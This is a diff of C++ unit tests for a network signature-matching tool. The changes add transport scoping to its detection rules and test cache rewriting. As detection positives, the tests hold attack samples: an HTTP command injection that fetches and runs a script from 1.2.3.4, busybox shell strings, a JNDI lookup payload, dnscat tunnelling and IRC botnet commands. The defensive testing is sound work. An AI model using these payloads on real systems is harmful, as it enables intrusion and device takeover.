@@ -4,6 +4,7 @@
 #include <cstdlib>
 #include <cstring>
 #include <filesystem>
+#include <map>
 #include <vector>
 
 #include "features/signatures.h"
@@ -28,6 +29,13 @@ TEST(Rules, ParseErrorsNameTheLine) {
   EXPECT_EQ(err("x:/a/\n"), "t.rules:1: rule id 'x' is not an unsigned integer");
   EXPECT_EQ(err("7 abc\n"), "t.rules:1: expected ID:/PATTERN/FLAGS [name]");
   EXPECT_EQ(err("# only comments\n"), "t.rules: no rules");
+  EXPECT_EQ(err("tcp,sctp 1:/a/ x\n"), "t.rules:1: unknown transport 'sctp' (tcp udp icmp other ip)");
+  EXPECT_EQ(err("tcp,,udp 1:/a/ x\n"), "t.rules:1: unknown transport '' (tcp udp icmp other ip)");
+  EXPECT_EQ(err("udp\n"), "t.rules:1: expected TRANSPORTS ID:/PATTERN/FLAGS [name]");
+  EXPECT_EQ(err("udp 1:/ab(c/ x\n"), "t.rules:1: rule 1: Missing close parenthesis for group started at index 2.");
+  // A bad pattern is named by its own line whichever transport's database it is in.
+  EXPECT_EQ(err("tcp 1:/a/ x\nudp 2:/b/ y\nicmp 3:/(/ z\n"),
+            "t.rules:3: rule 3: Missing close parenthesis for group started at index 0.");
   std::string many;
   for (int i = 0; i < 65; i++) many += std::to_string(i) + ":/r" + std::to_string(i) + "/\n";
   EXPECT_NE(err(many).find("more than 64 rules"), std::string::npos);
@@ -51,21 +59,53 @@ uint64_t bit_of(const RuleSet& rs, uint32_t id) {
   return 0;
 }
 
+// Transports scope a rule as a Suricata rule header's protocol does: run over flows of
+// those transports only; no list, or `ip`, means all of them.
+TEST(Rules, TransportsScopeWhereARuleRuns) {
+  auto rules = RuleSet::parse("tcp 1:/a/ x\nudp,icmp 2:/a/ y\n3:/a/ z\nip 4:/a/ w\nother 5:/a/ v\n", "t.rules");
+  ASSERT_EQ(rules.size(), 5u);
+  EXPECT_EQ(rules[0].scope, 1u << kTcp);
+  EXPECT_EQ(rules[1].scope, (1u << kUdp) | (1u << kIcmp));
+  EXPECT_EQ(rules[2].scope, kAllTransports);
+  EXPECT_EQ(rules[3].scope, kAllTransports);
+  EXPECT_EQ(rules[4].scope, 1u << kOtherIp);
+  EXPECT_EQ(rules[0].pattern, "a");
+  EXPECT_EQ(rules[1].name, "y");
+
+  auto rs = RuleSet::load_string("tcp 1:/a/ x\nudp,icmp 2:/a/ y\n3:/a/ z\nother 5:/a/ v\n", "t.rules");
+  SignatureMatcher m(rs);
+  EXPECT_EQ(m.match(rec("a", 6)), 0b0101u);
+  EXPECT_EQ(m.match(rec("a", 17)), 0b0110u);
+  EXPECT_EQ(m.match(rec("a", 1, 0x1234, 0x1234)), 0b0110u);
+  EXPECT_EQ(m.match(rec("a", 58, 0x8000, 0x8000)), 0b0110u);  // ICMPv6 echo
+  EXPECT_EQ(m.match(rec("a", 132)), 0b1100u);                 // SCTP: other
+  // A transport no rule runs over has no database: nothing is scanned.
+  auto tcp_only = RuleSet::load_string("tcp 1:/a/ x\n", "t.rules");
+  EXPECT_NE(tcp_only->db(kTcp), nullptr);
+  EXPECT_EQ(tcp_only->db(kUdp), nullptr);
+  EXPECT_EQ(SignatureMatcher(tcp_only).match(rec("a", 17)), 0u);
+  // Transports with the same rules share one database.
+  EXPECT_EQ(rs->db(kUdp), rs->db(kIcmp));
+  EXPECT_NE(rs->db(kTcp), rs->db(kUdp));
+}
+
 // A compiled-database cache serves the same rules without compiling, and anything it
 // cannot serve (damaged file, unwritable directory) costs a compile, never the rules.
 TEST(Rules, CacheServesTheSameDatabaseAndSurvivesDamage) {
   char tmpl[] = "/tmp/ls_rules_cache_XXXXXX";
   ASSERT_NE(mkdtemp(tmpl), nullptr);
   const std::string dir = tmpl;
-  const std::string text = "1:/NICK [^\\s]{1,32}\\r?\\nUSER /s irc\n2:/jndi:(ldap|rmi):\\/\\//i jndi\n";
-  const FlowRecord hits[] = {rec("NICK bot\r\nUSER x"), rec("GET /${JNDI:ldap://e}"), rec("nothing here")};
+  // Scoped rules: the cache holds one database per distinct transport subset.
+  const std::string text = "tcp 1:/NICK [^\\s]{1,32}\\r?\\nUSER /s irc\n2:/jndi:(ldap|rmi):\\/\\//i jndi\n";
+  const FlowRecord hits[] = {rec("NICK bot\r\nUSER x"), rec("GET /${JNDI:ldap://e}"), rec("nothing here"),
+                             rec("NICK bot\r\nUSER x ${jndi:rmi://e}", 17)};
   auto masks = [&](const std::shared_ptr<const RuleSet>& rs) {
     SignatureMatcher m(rs);
     std::vector<uint64_t> v;
     for (auto& r : hits) v.push_back(m.match(r));
     return v;
   };
-  const std::vector<uint64_t> want = {1, 2, 0};
+  const std::vector<uint64_t> want = {1, 2, 0, 2};
   auto first = RuleSet::load_string(text, "t.rules", dir);
   EXPECT_EQ(first->cache_status().rfind("compiled, cached as " + dir + "/rules-", 0), 0u) << first->cache_status();
   auto second = RuleSet::load_string(text, "t.rules", dir);
@@ -93,6 +133,15 @@ TEST(Rules, CacheServesTheSameDatabaseAndSurvivesDamage) {
   EXPECT_EQ(repaired->cache_status(), "compiled; cache " + file + " unusable: damaged; rewritten");
   EXPECT_EQ(masks(repaired), want);
   EXPECT_EQ(RuleSet::load_string(text, "t.rules", dir)->cache_status(), "cache hit");
+  // A cache written by an older linesight (one database, format 1): compiled and rewritten.
+  {
+    std::FILE* f = std::fopen(file.c_str(), "wb");
+    std::fputs("LSHSDB1\nold", f);
+    std::fclose(f);
+  }
+  EXPECT_EQ(RuleSet::load_string(text, "t.rules", dir)->cache_status(),
+            "compiled; cache " + file + " unusable: written by an older linesight; rewritten");
+  EXPECT_EQ(masks(RuleSet::load_string(text, "t.rules", dir)), want);
   // Not a cache file at all (a stray file under the name): the same.
   { std::FILE* f = std::fopen(file.c_str(), "wb"); std::fputs("junk", f); std::fclose(f); }
   EXPECT_EQ(RuleSet::load_string(text, "t.rules", dir)->cache_status(),
@@ -119,6 +168,7 @@ TEST_F(DefaultRules, EveryRuleHasAPositiveAndANegative) {
   struct Case {
     uint32_t id;
     std::string yes, no;
+    uint8_t proto = 6;  // a transport the rule runs over
   };
   std::string dnsq = std::string("\x12\xb0\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
   std::vector<Case> cases = {
@@ -130,8 +180,8 @@ TEST_F(DefaultRules, EveryRuleHasAPositiveAndANegative) {
       {1202, "GET /cgi?cmd=cd+/tmp;wget+http://1.2.3.4/x.sh;chmod+777+x.sh HTTP/1.1", "GET /wget-manual.html HTTP/1.1"},
       {1203, "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n", "/bin/busybox ls\r\n"},
       {1301, dnsq + "\x06" "dnscat" "\x3c" "546b03f50000000000a6023ed4df184d6ac5c2628b47714fdee584fe",
-       dnsq + "\x20" "FDEBEOEKEJCNEMEJEGEFECEPEPELCNCA" "\x00"},
-      {1302, std::string("\x45\x00\x00\x54\x00\x00\x40\x00\x40\x01\x23\xe9", 12), "\x45\x00 hello"},
+       dnsq + "\x20" "FDEBEOEKEJCNEMEJEGEFECEPEPELCNCA" "\x00", 17},
+      {1302, std::string("\x45\x00\x00\x54\x00\x00\x40\x00\x40\x01\x23\xe9", 12), "\x45\x00 hello", 17},
       {1401, "NICK bot123\r\nUSER bot 0 * :bot\r\n", "NICKNAME=x\r\n"},
       {1402, "PRIVMSG #chan :!ddos 1.2.3.4 80\r\n", "PRIVMSG #chan :hello world\r\n"},
       {1501, "GET / HTTP/1.1\r\nCookie: 48736=DfFOfQvCt/qYhIG3Uc81oULGUQy0r25Wtiu+JG453r+WJxni\r\n",
@@ -141,8 +191,23 @@ TEST_F(DefaultRules, EveryRuleHasAPositiveAndANegative) {
   };
   ASSERT_EQ(cases.size(), rs->rules().size()) << "a rule without a test case";
   for (auto& c : cases) {
-    EXPECT_TRUE(hits(c.id, rec(c.yes))) << "rule " << c.id << " misses its positive";
-    EXPECT_FALSE(hits(c.id, rec(c.no))) << "rule " << c.id << " fires on its negative";
+    EXPECT_TRUE(hits(c.id, rec(c.yes, c.proto))) << "rule " << c.id << " misses its positive";
+    EXPECT_FALSE(hits(c.id, rec(c.no, c.proto))) << "rule " << c.id << " fires on its negative";
+  }
+  // The transports each rule is scoped to (docs/rules.md): its positive on the others
+  // raises nothing. 0 = all.
+  const std::map<uint32_t, uint8_t> scope = {
+      {1001, 1 << kTcp}, {1002, 1 << kTcp}, {1101, 0},
+      {1102, 1 << kTcp}, {1201, 1 << kTcp}, {1202, 1 << kTcp | 1 << kUdp},
+      {1203, 1 << kTcp}, {1301, 1 << kUdp}, {1302, 1 << kUdp | 1 << kIcmp},
+      {1401, 1 << kTcp}, {1402, 1 << kTcp}, {1501, 1 << kTcp},
+      {1502, 1 << kTcp}, {1503, 1 << kTcp}};
+  const uint8_t protos[kTransports] = {6, 17, 1, 47};
+  for (auto& c : cases) {
+    uint8_t want = scope.at(c.id) ? scope.at(c.id) : kAllTransports;
+    for (int t = 0; t < kTransports; t++)  // ICMP as echo (ids in both ports), not an error
+      EXPECT_EQ(hits(c.id, rec(c.yes, protos[t], 0x4242, 0x4242)), bool(want & (1 << t)))
+          << "rule " << c.id << " on transport " << t;
   }
 }
 
